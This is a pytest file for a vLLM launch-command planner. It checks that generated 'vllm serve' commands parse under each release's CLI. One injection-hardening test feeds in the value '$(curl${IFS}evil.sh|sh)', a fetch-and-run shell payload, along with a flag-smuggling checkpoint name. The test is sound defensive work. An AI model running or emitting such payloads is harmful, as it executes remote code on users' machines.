"""Every command Headroom can emit parses with the targeted vLLM release's own command line
(fixtures extracted from the wheels by tools/extract_vllm_cli.py) and loads the planned
weight format; where there is no command, a launch note says why."""

import hashlib
import json
import shlex
import zipfile
from functools import cache
from pathlib import Path

import pytest

from planner.catalog import catalog_entries, catalog_spec
from planner.model.config.parser import parse_model_config
from planner.model.quant import SCHEMES, checkpoint_scheme, scheme
from planner.serving.engine import EngineSettings
from planner.serving.hardware import preset_cluster
from planner.serving.launch import remote_code_class, remote_code_note
from planner.serving.layout import ParallelLayout
from planner.serving.plan import summary_figures
from planner.serving.startup.wna16_shapes import MARLIN_TILE_PADDING_FROM
from planner.serving.sweep import layout_candidates, quant_candidates, quant_settings
from planner.serving.vllm_cli import (
    CountError,
    command_problems,
    kv_cache_dtypes,
    read_count,
    supported_versions,
    transformers_model_types,
    unmodelled_kv_cache_dtypes,
    unserved_refusal,
    vllm_cli,
)
from planner.serving.vllm_versions import (
    V1_ONLY_FROM,
    EngineError,
    LayoutRefused,
    parse_version,
)
from planner.units import VLLM_KV_DTYPE
from tests.conftest import load_remote_code_config
from tools.extract_transformers_model_types import model_types as transformers_types
from tools.extract_vllm_cli import _choices, _config_model_types
from tools.extract_vllm_cli import main as extract_main

VERSIONS = supported_versions()
CLUSTER = preset_cluster("b200", 8)  # big enough that most catalog models fit with a command
LAYOUT_FLAGS = ("--tensor-parallel-size", "--pipeline-parallel-size", "--data-parallel-size",
                "--enable-expert-parallel")


def test_the_three_versions_the_planner_targets_have_fixtures() -> None:
    assert {"0.19.0", "0.21.0", "0.33.0"} <= set(VERSIONS)
    for version in VERSIONS:
        cli = vllm_cli(version)
        assert all(cli.accepts(flag) for flag in LAYOUT_FLAGS), version
        assert {"auto", "fp8"} <= set(cli.choices["--kv-cache-dtype"])
        # bfloat16 KV arrived in 0.11 and float16 in 0.18 (vllm/config.py CacheDType of the
        # 0.9-0.10 wheels, vllm/config/cache.py from 0.11)
        release = tuple(map(int, cli.vllm_version.split(".")))
        assert ("bfloat16" in cli.choices["--kv-cache-dtype"]) == (release >= (0, 11, 0))
        assert ("float16" in cli.choices["--kv-cache-dtype"]) == (release >= (0, 18, 0))


def test_flags_vllm_rejects_are_found() -> None:
    """Issue 12: each was printed by Headroom and refused by vLLM 0.33's parser."""
    cli = vllm_cli("0.33.0")
    head = "vllm serve Qwen/Qwen3-8B "
    assert "argument --kv-cache-dtype: invalid choice: 'bf16'" in command_problems(
        head + "--kv-cache-dtype bf16", cli)[0]
    assert command_problems(head + "--kv-cache-dtype float32", cli)  # no fp32 KV cache
    assert command_problems(head + "--kv-cache-memory 1073741824", cli) == [
        "vLLM 0.33.0: unrecognized arguments: --kv-cache-memory"]  # only as an abbreviation
    assert command_problems(head + "--quantization bitsandbytes", cli)  # gone by 0.33
    assert command_problems(head + "--quantization bitsandbytes", vllm_cli("0.19")) == []
    assert command_problems(head + "--kv-cache-dtype bfloat16 --kv-cache-memory-bytes 1 "
                            "--no-enable-chunked-prefill --enforce-eager", cli) == []


def test_kv_dtypes_offered_are_the_versions_own_and_the_rest_is_labelled() -> None:
    assert kv_cache_dtypes("0.19.0") == ("auto", "bf16", "fp16", "fp8", "fp8_e4m3", "fp8_e5m2")
    assert "fp32" not in kv_cache_dtypes("0.33.0")
    assert "nvfp4" not in unmodelled_kv_cache_dtypes("0.19.0")  # not in 0.19 at all
    # the packed formats arrive with the release whose CacheDType lists them (config/cache.py)
    packed = ("nvfp4", "nvfp4_4over6", "int8_per_token_head", "fp8_per_token_head",
              "int4_per_token_head")
    offered = {v: [kv for kv in packed if kv in kv_cache_dtypes(v)]
               for v in ("0.19.0", "0.20.0", "0.24.0", "0.25.0", "0.27.0", "0.28.0", "0.33.0")}
    assert offered == {
        "0.19.0": [], "0.20.0": ["nvfp4", "int8_per_token_head", "fp8_per_token_head"],
        "0.24.0": ["nvfp4", "int8_per_token_head", "fp8_per_token_head"],
        "0.25.0": ["nvfp4", "int8_per_token_head", "fp8_per_token_head", "int4_per_token_head"],
        "0.27.0": ["nvfp4", "int8_per_token_head", "fp8_per_token_head", "int4_per_token_head"],
        "0.28.0": list(packed), "0.33.0": list(packed)}
    # the four turboquant presets, from 0.20.0 (CacheDType; turboquant/config.py TQ_PRESETS)
    tq = ("turboquant_k8v4", "turboquant_4bit_nc", "turboquant_k3v4_nc", "turboquant_3bit_nc")
    assert not set(tq) & set(kv_cache_dtypes("0.19.0"))
    for version in ("0.20.0", "0.27.0", "0.33.0"):
        assert kv_cache_dtypes(version)[-4:] == tq
    # nvfp4_ds_mla (sparse MLA, SM100: kvformat.NVFP4_DS_MLA_NOTE) from 0.30.0's CacheDType
    assert "nvfp4_ds_mla" not in kv_cache_dtypes("0.29.0")
    assert "nvfp4_ds_mla" in kv_cache_dtypes("0.30.0") and "nvfp4_ds_mla" in kv_cache_dtypes(
        "0.33.0")
    # offered by vLLM, not sized here: ROCm, Gaudi and vLLM's own fp8 sparse-MLA layout
    assert {"ultraquant_4bit", "octave_k3v4", "fp8_ds_mla", "fp8_inc"} \
        == set(unmodelled_kv_cache_dtypes("0.33.0")) - {"octave_k3v3", "octave_k3v3_compact"}


_spec = cache(catalog_spec)


def _loaded_format(command: str) -> str:
    """The weight format `command` loads, worked out from the command alone: vLLM's runtime
    --quantization where given, else the format of the checkpoint it names (its config)."""
    tokens = shlex.split(command)
    if "--quantization" in tokens:
        method = tokens[tokens.index("--quantization") + 1]
        return next(s.key for s in SCHEMES.values() if s.runtime and s.vllm_quantization == method)
    return checkpoint_scheme(_spec(tokens[2])).key


def _layout(spec) -> ParallelLayout:
    """The widest valid TP layout (EP for MoE): one layout per model keeps the test fast."""
    valid = layout_candidates(spec, CLUSTER)
    return max(valid, key=lambda lay: (lay.pp == 1, lay.tp, lay.ep))


TARGETED = ("0.19.0", "0.21.0", "0.33.0")
"""The calibration release, the planner's old default and the current one: the full cross
product. The releases between them get every model x format with kv auto plus every KV
dtype on the first model (the KV flag is the only part a KV dtype changes): 4 s each
for the full product would be a minute of CI."""


@pytest.mark.parametrize("version", VERSIONS)
def test_every_command_parses_and_loads_the_planned_format(version: str) -> None:
    """Every catalog model x weight format the app and CLI offer x KV dtype of the version."""
    cli = vllm_cli(version)
    commands = notes = refused = marlin_refused = unserved = 0
    kv_launched = set()
    for index, entry in enumerate(catalog_entries()):
        spec = _spec(entry.repo_id)
        layout = _layout(spec)
        own = checkpoint_scheme(spec).key
        full = version in TARGETED or index == 0
        for key in quant_candidates(spec, CLUSTER):
            for kv in kv_cache_dtypes(version) if full else ("auto",):
                settings = EngineSettings(vllm_version=version, kv_cache_dtype=kv,
                                          max_model_len=4096, **quant_settings(key, own))
                try:
                    figures = summary_figures(spec, CLUSTER, layout, settings, validated=True)
                except EngineError as exc:
                    assert "\n" not in str(exc)
                    if isinstance(exc, LayoutRefused) and "min_thread" in str(exc):
                        marlin_refused += 1  # this TP only: Marlin's tiles, before padding
                    elif str(exc) == unserved_refusal(spec.architectures, cli):
                        unserved += 1  # only a later release's registry has the class
                    else:  # vLLM < 0.11: V0 fall-backs, unread V1 parts
                        assert parse_version(version) < V1_ONLY_FROM, (version, str(exc))
                        refused += 1
                    continue
                command = figures["vllm_command"]
                if command is None:
                    assert figures["launch_note"], (entry.repo_id, key, kv)
                    notes += 1
                    continue
                commands += 1
                kv_launched.add(kv)
                assert command_problems(command, cli) == [], command
                # the KV format planned is the one the command asks for
                assert (kv == "auto") != (f"--kv-cache-dtype {VLLM_KV_DTYPE[kv]} " in command)
                loaded, planned = _loaded_format(command), figures["weight_format"]
                if scheme(loaded).family == "float":  # fp32 checkpoints are served in 16 bits
                    assert scheme(planned).family == "float" and key == own, command
                else:
                    assert loaded == planned == key, command
    # Marlin's minimum tiles refuse a TP=8 GPTQ plan (Qwen2.5-72B: 2 x 29,568 / 8 = 7,392
    # gate_up columns per GPU, not a multiple of 64) where no other kernel takes it (0.19-0.22;
    # 0.23 has Humming; AWQ's fallback, its own CUDA GEMM, takes neither bfloat16 nor 7,392
    # outputs) and never once vLLM pads the tiles
    if parse_version(version) >= MARLIN_TILE_PADDING_FROM:
        assert marlin_refused == 0, version
    if version in ("0.19.0", "0.21.0"):
        assert marlin_refused > 0, version
    # both paths are exercised (fewer models and formats run on the V1 engine before 0.11)
    least = 100 if refused == unserved == 0 else 50
    assert commands > least and notes > least, (commands, notes, refused, unserved)
    # the catalog's architectures only later releases have (DeepSeek-V4 until 0.19.0)
    assert unserved > 0 if parse_version(version) < (0, 20, 0) else unserved == 0, version
    if version in TARGETED:  # every KV dtype of the release launched somewhere (B200: nvfp4)
        assert kv_launched == set(kv_cache_dtypes(version)), version


@pytest.mark.parametrize("version", VERSIONS)
def test_every_all2all_backend_of_the_release_launches(version: str) -> None:
    """--all2all-backend: each value of the release's parser (its fixture's choices) reaches
    an expert-parallel, data-parallel command that parses; before 0.11.1 the flag is refused
    (the release reads VLLM_ALL2ALL_BACKEND instead)."""
    spec, layout = _spec("Qwen/Qwen3-30B-A3B"), ParallelLayout(tp=2, dp=4, ep=True)
    cli = vllm_cli(version)
    if not cli.accepts("--all2all-backend"):
        assert parse_version(version) < (0, 11, 1)
        figures = summary_figures(spec, CLUSTER, layout, EngineSettings(
            vllm_version=version, max_model_len=4096, all2all_backend="naive"), validated=True)
        assert figures["vllm_command"] is None and "unrecognized arguments: --all2all-backend" \
            in figures["verdict"]
        return
    for backend in cli.choices["--all2all-backend"]:
        settings = EngineSettings(vllm_version=version, max_model_len=4096,
                                  all2all_backend=backend)
        command = summary_figures(spec, CLUSTER, layout, settings, validated=True)["vllm_command"]
        assert f" --all2all-backend {backend}" in command, (version, backend)
        assert command_problems(command, cli) == [], command


@pytest.mark.parametrize("version", VERSIONS)
def test_the_eplb_flags_of_every_release_parse(version: str) -> None:
    """--enable-eplb with 32 redundant experts reaches an expert-parallel command the
    release's parser takes, in its spelling (planner.serving.eplb: --num-redundant-experts
    before 0.10.2, --eplb-config after); 0.9.1 has neither flag. DeepSeek-V3: FP8 (0.9.2
    takes EPLB for Fp8MoEMethod only) and a MixtureOfExperts class in every release 0.9.2 on."""
    spec, layout = _spec("deepseek-ai/DeepSeek-V3"), ParallelLayout(tp=1, dp=16, ep=True)
    cli = vllm_cli(version)
    figures = summary_figures(spec, preset_cluster("h200", 8, 2), layout, EngineSettings(
        vllm_version=version, max_model_len=4096, enable_eplb=True, num_redundant_experts=32),
        validated=True)
    if version == "0.9.1":
        assert figures["vllm_command"] is None
        assert "unrecognized arguments: --enable-eplb" in figures["verdict"]
        return
    command = figures["vllm_command"]
    flag = ("--eplb-config '{\"num_redundant_experts\": 32}'"
            if parse_version(version) >= (0, 10, 2) else "--num-redundant-experts 32")
    assert f" --enable-eplb {flag}" in command, (version, command)
    assert command_problems(command, cli) == [], command


def _remote_code_note(version: str, arch: str) -> str:
    return (f"No launch command: vLLM {version} has no native {arch}: it loads only with "
            "--trust-remote-code, which runs the repository's Python code; review it, then "
            "plan with --trust-remote-code.")


@pytest.mark.parametrize("version", VERSIONS)
def test_a_repositorys_own_code_gets_trust_remote_code_only_when_asked(version: str) -> None:
    spec = parse_model_config(load_remote_code_config(), name="acme/Acme-42M")
    assert spec.remote_model_class == "modeling_acme.AcmeForCausalLM"

    def figures(trust: bool) -> dict:
        settings = EngineSettings(vllm_version=version, max_model_len=4096,
                                  trust_remote_code=trust)
        return summary_figures(spec, preset_cluster("h100-sxm", 1), ParallelLayout(tp=1),
                               settings, validated=True)

    if parse_version(version) < V1_ONLY_FROM:  # the oracle refuses first, as before
        with pytest.raises(EngineError, match=f"vLLM {version[:-2]}.* has no model class for "
                           "AcmeForCausalLM .*Transformers backend"):
            figures(True)
        return
    plain, trusted = figures(False), figures(True)
    assert plain["fits"] and plain["vllm_command"] is None and plain["vllm_commands"] == []
    assert plain["launch_note"] == _remote_code_note(version, "AcmeForCausalLM")
    command = trusted["vllm_command"]
    assert trusted["fits"] and shlex.split(command)[:4] == [
        "vllm", "serve", "acme/Acme-42M", "--trust-remote-code"], command
    assert command_problems(command, vllm_cli(version)) == [], command
    # the flag changes the command only: the figures are the same
    assert {k: v for k, v in plain.items() if "launch" not in k and "command" not in k} == \
        {k: v for k, v in trusted.items() if "launch" not in k and "command" not in k}


def test_the_release_registry_decides_which_real_models_need_remote_code() -> None:
    """Read by hand in the wheels' vllm/model_executor/models/registry.py: MiniMaxM2ForCausalLM
    is a _TEXT_GENERATION_MODELS key from 0.12.0 (not in 0.11.0); PhiForCausalLM moved from
    _TEXT_GENERATION_MODELS (0.31.0) to _TRANSFORMERS_SUPPORTED_MODELS (0.32.0), served by the
    Transformers backend with no code from the repository. Both configs carry an auto_map."""
    assert all(vllm_cli(v).architectures for v in VERSIONS)  # every fixture lists them
    assert not vllm_cli("0.10.0").transformers_architectures  # the table arrives in 0.10.1
    assert "SmolLM3ForCausalLM" in vllm_cli("0.10.1").transformers_architectures
    minimax = _spec("MiniMaxAI/MiniMax-M2.5")
    assert minimax.remote_model_class == "modeling_minimax_m2.MiniMaxM2ForCausalLM"
    assert remote_code_note(minimax, vllm_cli("0.11.0")) == _remote_code_note(
        "0.11.0", "MiniMaxM2ForCausalLM")
    # 0.12.0 has the class, but not the config's: minimax_m2 is in no _CONFIG_REGISTRY, and in
    # transformers' CONFIG_MAPPING_NAMES of 5.5.3 (the lowest vLLM 0.24.0 allows, METADATA
    # Requires-Dist transformers>=5.5.3), not of 4.56.0 (the lowest of 0.12.0-0.23.0)
    assert remote_code_class(minimax, vllm_cli("0.12.0")) == (
        "configuration_minimax_m2.MiniMaxM2Config")
    assert remote_code_class(minimax, vllm_cli("0.23.0")) is not None
    assert remote_code_note(minimax, vllm_cli("0.24.0")) is None
    phi = _spec("microsoft/phi-2")
    assert phi.remote_model_class == "modeling_phi.PhiForCausalLM"
    assert vllm_cli("0.31.0").serves(phi.architectures)
    assert not vllm_cli("0.32.0").serves(phi.architectures)
    assert all(remote_code_note(phi, vllm_cli(v)) is None for v in ("0.31.0", "0.32.0", "0.33.0"))
    # no auto_map: never a repository's code, whatever the release
    assert _spec("Qwen/Qwen3-8B").remote_model_class is None


def test_a_config_neither_vllm_nor_transformers_reads_needs_trust_remote_code() -> None:
    """Read by hand: no wheel's vllm/transformers_utils/config.py (0.9.1-0.33.0) has
    "nemotron-nas" in _CONFIG_REGISTRY, nor has transformers 5.24.0's CONFIG_MAPPING_NAMES (nor
    so any older one's: the lowest each wheel's METADATA allows, Requires-Dist
    transformers>=4.51.1 in 0.9.1 ... transformers<5.21.0,>=5.16.1 in 0.33.0), so get_config
    runs Llama-3_3-Nemotron-Super-49B's auto_map AutoConfig (configuration_decilm)
    and refuses it without --trust-remote-code (transformers' "contains custom code which
    must be executed"), though every release has DeciLMForCausalLM. kimi_k2 enters
    _CONFIG_REGISTRY in 0.18.0 (not in 0.17.0's; transformers has none); deepseek_v3 is
    transformers' own."""
    nemotron = _spec("nvidia/Llama-3_3-Nemotron-Super-49B-v1")
    assert nemotron.remote_config_class == "configuration_decilm.DeciLMConfig"
    note = ("No launch command: neither vLLM {v} nor transformers {t} (the oldest it allows) "
            "has a config class for model_type 'nemotron-nas': vLLM reads its config only with "
            "--trust-remote-code, which runs the repository's Python code; review it, then "
            "plan with --trust-remote-code.")
    for v in VERSIONS:
        assert vllm_cli(v).serves(nemotron.architectures), v  # the model class is native
        assert remote_code_note(nemotron, vllm_cli(v)) == note.format(
            v=v, t=vllm_cli(v).transformers_min), v
        assert remote_code_class(nemotron, vllm_cli(v)) == "configuration_decilm.DeciLMConfig"
    # Kimi-K2's config: read with the flag only before 0.18 (kimi_k2 joins _CONFIG_REGISTRY);
    # its tokenizer needs the flag on every release (test_remote_code.KIMI_TOKENIZER)
    kimi = _spec("moonshotai/Kimi-K2-Instruct")
    assert "config class for model_type 'kimi_k2'" in remote_code_note(kimi, vllm_cli("0.17.0"))
    assert remote_code_class(kimi, vllm_cli("0.17.0")) == (
        "configuration_deepseek.DeepseekV3Config and tokenization_kimi.TikTokenTokenizer")
    assert "tokenizer_class 'TikTokenTokenizer'" in remote_code_note(kimi, vllm_cli("0.18.0"))
    assert remote_code_class(kimi, vllm_cli("0.18.0")) == "tokenization_kimi.TikTokenTokenizer"
    assert all(remote_code_note(_spec("deepseek-ai/DeepSeek-V3"), vllm_cli(v)) is None
               for v in VERSIONS)
    assert (vllm_cli("0.9.1").transformers_min, vllm_cli("0.33.0").transformers_min) == (
        "4.51.1", "5.16.1")
    # every release's lowest transformers has its list (transformers-X.json)
    assert all("llama" in transformers_model_types(vllm_cli(v).transformers_min)
               for v in VERSIONS)
    # the plan: no command by default, one with the flag, the same figures
    def figures(trust: bool) -> dict:
        return summary_figures(nemotron, preset_cluster("h100-sxm", 2), ParallelLayout(tp=2),
                               EngineSettings(vllm_version="0.33.0", max_model_len=8192,
                                              trust_remote_code=trust), validated=True)
    plain, trusted = figures(False), figures(True)
    assert plain["fits"] and plain["vllm_command"] is None
    assert plain["launch_note"] == note.format(v="0.33.0", t="5.16.1")
    assert plain["verdict"] == trusted["verdict"] and plain["verdict"].startswith("Fits: ")
    assert shlex.split(trusted["vllm_command"])[:3] == [
        "vllm", "serve", "nvidia/Llama-3_3-Nemotron-Super-49B-v1"]
    assert "--trust-remote-code" in shlex.split(trusted["vllm_command"])


def test_the_extractor_reads_both_spellings_of_the_config_registry() -> None:
    old = ('_OVERRIDE = {"mllama": MllamaConfig}\n'
           '_CONFIG_REGISTRY: dict = {"chatglm": ChatGLMConfig, **_OVERRIDE}\n')
    new = ('_CONFIG_REGISTRY = LazyConfigDict(kimi_k2="DeepseekV3Config", '
           '**{"unlimited-ocr": "UnlimitedOCRConfig"})\n')
    assert _config_model_types(old) == ["chatglm", "mllama"]
    assert _config_model_types(new) == ["kimi_k2", "unlimited-ocr"]


def test_each_release_takes_its_own_all2all_backends() -> None:
    """Read by hand in each wheel's vllm/config/parallel.py (and engine/arg_utils.py, which
    takes 'passthrough' out of the parser's choices from 0.32.0)."""
    def choices(version: str) -> tuple[str, ...] | None:
        cli = vllm_cli(version)
        return cli.choices.get("--all2all-backend") if cli.accepts("--all2all-backend") else None

    six = ("naive", "pplx", "deepep_high_throughput", "deepep_low_latency",
           "allgather_reducescatter", "flashinfer_all2allv")
    assert choices("0.11.0") is None  # VLLM_ALL2ALL_BACKEND only
    assert choices("0.11.1") == choices("0.14.0") == six  # Literal | None, then the alias
    assert choices("0.15.0") == (*six[:4], "mori", *six[4:])
    assert set(choices("0.18.0")) - set(choices("0.17.0")) == {
        "nixl_ep", "flashinfer_nvlink_two_sided", "flashinfer_nvlink_one_sided"}
    # 0.23.0 splits mori in two; 0.24.0 adds deepep_v2, 0.31.0 moonep; 0.34.0 takes mori again
    assert "mori" not in choices("0.23.0") and "mori_low_latency" in choices("0.23.0")
    assert "deepep_v2" not in choices("0.23.0") and "deepep_v2" in choices("0.24.0")
    assert "moonep" not in choices("0.30.0") and "moonep" in choices("0.31.0")
    assert len(choices("0.33.0")) == 13 and "passthrough" not in choices("0.33.0")
    assert "mori" not in choices("0.33.0") and "mori" in choices("0.34.0")


def test_the_extractor_reads_all2all_choices_in_each_spelling() -> None:
    """--all2all-backend: the field's own `Literal[...] | None` (0.11.1-0.13.0), the
    All2AllBackend alias (0.14.0 on), less what arg_utils.py removes from the parser's choices
    (0.32.0 on: PASSTHROUGH_ALL2ALL_BACKEND, a constant of vllm/config/kernel.py)."""
    old = {"vllm/config/parallel.py": 'class ParallelConfig:\n    all2all_backend: (\n'
           '        Literal["naive", "pplx"] | None) = None\n'}
    new = {"vllm/config/parallel.py": 'All2AllBackend = Literal["pplx", "passthrough"]\n'
           "class ParallelConfig:\n    all2all_backend: All2AllBackend = 'pplx'\n",
           "vllm/config/kernel.py": 'PASSTHROUGH_ALL2ALL_BACKEND: Final = "passthrough"\n',
           "vllm/engine/arg_utils.py": 'kw = get_kwargs(ParallelConfig)\n'
           'kw["all2all_backend"]["choices"].remove(PASSTHROUGH_ALL2ALL_BACKEND)\n'}
    assert _choices(old) == ({"--all2all-backend": ["naive", "pplx"]},
                             {"--all2all-backend": "vllm/config/parallel.py all2all_backend"})
    assert _choices(new) == ({"--all2all-backend": ["pplx"]}, {
        "--all2all-backend": "vllm/config/parallel.py All2AllBackend less 'passthrough' "
        "(vllm/engine/arg_utils.py)"})


def test_the_extractor_refreshes_one_key_of_a_fixture_at_a_time(tmp_path: Path) -> None:
    # --wheel / --config / --registry / --model-config rewrite only their keys of an existing
    # fixture; --wheel only from the wheel the fixture was extracted from (its sha256)
    wheel = tmp_path / "vllm-9.9.9-cp38-abi3-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr("vllm-9.9.9.dist-info/METADATA", "Name: vllm\nRequires-Dist: "
                    "transformers_stream_generator>=0.1\nRequires-Dist: transformers<6,>=4.56.0"
                    "\nRequires-Dist: transformers>=9.0; extra == 'x'\n")
    path = tmp_path / "vllm-9.9.9.json"
    path.write_text(json.dumps({"wheel_sha256": "0" * 64, "flags": ["--x"]}), "utf-8")
    with pytest.raises(SystemExit, match="is not the wheel vllm-9.9.9.json"):
        extract_main(["9.9.9", "--out", str(tmp_path), "--wheel", str(wheel)])
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    path.write_text(json.dumps({"wheel_sha256": sha, "flags": ["--x"]}), "utf-8")
    assert extract_main(["9.9.9", "--out", str(tmp_path), "--wheel", str(wheel)]) == 0
    config = tmp_path / "config.py"
    config.write_text('_CONFIG_REGISTRY = LazyConfigDict(kimi_k2="DeepseekV3Config")\n', "utf-8")
    assert extract_main(["9.9.9", "--out", str(tmp_path), "--config", str(config)]) == 0
    registry = tmp_path / "registry.py"
    registry.write_text('_TEXT_GENERATION_MODELS = {"LlamaForCausalLM": ("llama", "L")}\n'
                        '_TRANSFORMERS_SUPPORTED_MODELS = {"SmolVLM": ("t", "T")}\n'
                        '_PREVIOUSLY_SUPPORTED_MODELS = {"AquilaForCausalLM": "0.24.0"}\n',
                        "utf-8")
    assert extract_main(["9.9.9", "--out", str(tmp_path), "--registry", str(registry)]) == 0
    model_py = tmp_path / "model.py"
    model_py.write_text('_SUFFIX_TO_DEFAULTS = [("ForCausalLM", ("generate", "none"))]\n', "utf-8")
    assert extract_main(["9.9.9", "--out", str(tmp_path), "--model-config", str(model_py)]) == 0
    assert json.loads(path.read_text("utf-8")) == {
        "wheel_sha256": sha, "flags": ["--x"], "transformers_min": "4.56.0",
        "config_model_types": ["kimi_k2"], "architecture_model_types": {},
        "architectures": ["LlamaForCausalLM"],
        "transformers_architectures": ["SmolVLM"], "pooling_architectures": {},
        "previously_supported": {"AquilaForCausalLM": "0.24.0"}, "oot_supported": {},
        "runner_defaults": [["ForCausalLM", "generate"]]}


def test_the_transformers_extractor_reads_both_spellings_of_config_mapping_names() -> None:
    old = 'CONFIG_MAPPING_NAMES = OrderedDict([("albert", "AlbertConfig"), ("llama", "L")])\n'
    # 5.x: built in auto_mappings.py, extended and re-wrapped in configuration_auto.py
    mappings = 'CONFIG_MAPPING_NAMES = OrderedDict(\n    [("llama", "LlamaConfig")]\n)\n'
    auto = ('from .auto_mappings import CONFIG_MAPPING_NAMES\n'
            'CONFIG_MAPPING_NAMES.update({"mlcd": "MLCDVisionConfig"})\n'
            'CONFIG_MAPPING_NAMES = OrderedDict(**{"gpt-sw3": "GPT2Config"}, '
            '**CONFIG_MAPPING_NAMES)\n')
    assert transformers_types([old]) == ["albert", "llama"]
    assert transformers_types([mappings, auto]) == ["gpt-sw3", "llama", "mlcd"]


@pytest.mark.parametrize("trust", [False, True])
def test_a_model_run_on_its_own_code_before_its_native_class_is_refused(trust: bool) -> None:
    # vLLM 0.11.0 has no MiniMaxM2ForCausalLM (its registry.py; 0.11.1's has it): it would run
    # the repository's modeling_minimax_m2 through its Transformers backend, whose memory
    # Headroom does not model: refused, naming 0.11.1, with --trust-remote-code or without
    # (it was planned with 0.12.0's native figures as an unmodelled fit).
    # With EP: without it each expert is 1,536 / 8 = 192 wide, not whole 128 x 128 FP8 blocks,
    # which vLLM refuses before 0.29.0 (Fp8MoEMethod.create_weights)
    minimax = _spec("MiniMaxAI/MiniMax-M2.5")

    def figures(version: str) -> dict:
        return summary_figures(minimax, preset_cluster("h200", 8), ParallelLayout(tp=8, ep=True),
                               EngineSettings(vllm_version=version, trust_remote_code=trust),
                               validated=True)

    with pytest.raises(EngineError) as caught:
        figures("0.11.0")
    assert str(caught.value) == (
        "vLLM 0.11.0 has no model class for MiniMaxM2ForCausalLM (its model_executor/models/"
        "registry.py; the first release whose registry has it is 0.11.1): it would try its "
        "Transformers backend, which Headroom does not model; plan it with vLLM 0.11.1 or "
        "later")
    new = figures("0.12.0")
    assert new["verdict"].startswith("Fits: ") and not any(
        "Transformers backend" in w for w in new["warnings"])


def test_a_given_checkpoint_is_one_shell_word_and_never_a_flag() -> None:
    # --target-checkpoint / the app's ckpt went into the command as is: a shell substitution
    # ran when the command was pasted, and "org/x --trust-remote-code" added a flag
    spec = _spec("Qwen/Qwen3-8B")
    for given in ("$(curl${IFS}evil.sh|sh)", "org/x --trust-remote-code", "/data/my model"):
        settings = EngineSettings(target_quant="w4a16-gptq-g128", target_checkpoint=given)
        command = summary_figures(spec, CLUSTER, ParallelLayout(tp=1), settings,
                                  validated=True)["vllm_command"]
        assert shlex.split(command)[:3] == ["vllm", "serve", given], command
        assert "--trust-remote-code" not in shlex.split(command)
    for flag_like in ("--trust-remote-code", "-h", "a\nb", " "):
        with pytest.raises(ValueError, match="target_checkpoint"):
            EngineSettings(target_quant="w4a16-gptq-g128", target_checkpoint=flag_like)


@pytest.mark.parametrize(("text", "flag", "version", "value"), [
    # vLLM 0.33.0 vllm/utils/argparse_utils.py human_readable_int, worked by hand:
    ("32k", "--max-model-len", "0.33.0", 32 * 1000),  # lower case: decimal
    ("32K", "--max-model-len", "0.33.0", 32 * 1024),  # upper case: binary
    ("25.6k", "--max-num-batched-tokens", "0.33.0", 25_600),  # int(float('25.6') x 1000)
    ("1.0005k", "--max-model-len", "0.33.0", 1_000),  # int() truncates 1000.5
    ("1M", "--kv-cache-memory-bytes", "0.33.0", 1 << 20),
    ("2g", "--kv-cache-memory-bytes", "0.33.0", 2 * 10**9),
    ("1T", "--kv-cache-memory-bytes", "0.13.0", 1 << 40),  # t / T from 0.13.0
    (" +8192 ", "--max-model-len", "0.33.0", 8192),  # no suffix: strip, then int()
    ("8_192", "--max-model-len", "0.9.1", 8192),
    ("64", "--max-num-seqs", "0.33.0", 64),  # type=int
    ("32k", None, "0.33.0", 32_000),  # Headroom's own counts: read like vLLM's
])
def test_a_count_reads_as_the_release_reads_it(text, flag, version, value) -> None:
    assert read_count(text, flag, version) == value


@pytest.mark.parametrize(("text", "flag", "version", "words"), [
    ("1.5K", "--max-model-len", "0.33.0", "no fraction with a binary suffix"),
    ("1.0", "--max-model-len", "0.33.0", "is not a count"),  # int('1.0') fails
    ("1T", "--kv-cache-memory-bytes", "0.12.0", "vLLM 0.12.0 has no t / T"),
    ("1t", "--max-num-batched-tokens", "0.9.1", "vLLM 0.9.1 has no t / T"),
    ("1k", "--max-num-seqs", "0.33.0", "plain integer"),  # type=int: no suffix
    ("2K", "--tensor-parallel-size", "0.33.0", "plain integer"),
    ("auto", "--max-model-len", "0.14.0", "is not planned here"),  # human_readable_int_or_auto
    ("-1", "--max-model-len", "0.33.0", "is not planned here"),
    ("auto", "--max-model-len", "0.13.0", "is not a count"),  # before or_auto: int() fails
    # float('1' + 400 zeros) is inf, and int(inf x 1000) raises OverflowError (a traceback
    # from vLLM's parser, which catches only ValueError and TypeError)
    ("1" + "0" * 400 + "k", "--max-model-len", "0.33.0", "too large a count"),
])
def test_a_count_the_release_refuses_is_refused(text, flag, version, words) -> None:
    with pytest.raises(CountError, match=words):
        read_count(text, flag, version)


def test_a_command_is_checked_for_the_counts_the_release_reads() -> None:
    head = "vllm serve Qwen/Qwen3-8B --max-model-len"
    assert command_problems(f"{head} 1t", vllm_cli("0.13.0")) == []
    assert command_problems(f"{head} 1t", vllm_cli("0.12.0")) == [
        "vLLM 0.12.0: argument --max-model-len: '1t' is not a count: a whole number, or a "
        "number with a suffix k, m, g (x 1000 per step: 25.6k) or K, M, G (x 1024 per step, "
        "whole: 32K; vLLM 0.12.0 has no t / T)"]
    assert command_problems("vllm serve m --max-num-seqs 1k", vllm_cli("0.33.0")) != []
    assert command_problems("vllm serve m --max-num-seqs 1024", vllm_cli("0.33.0")) == []
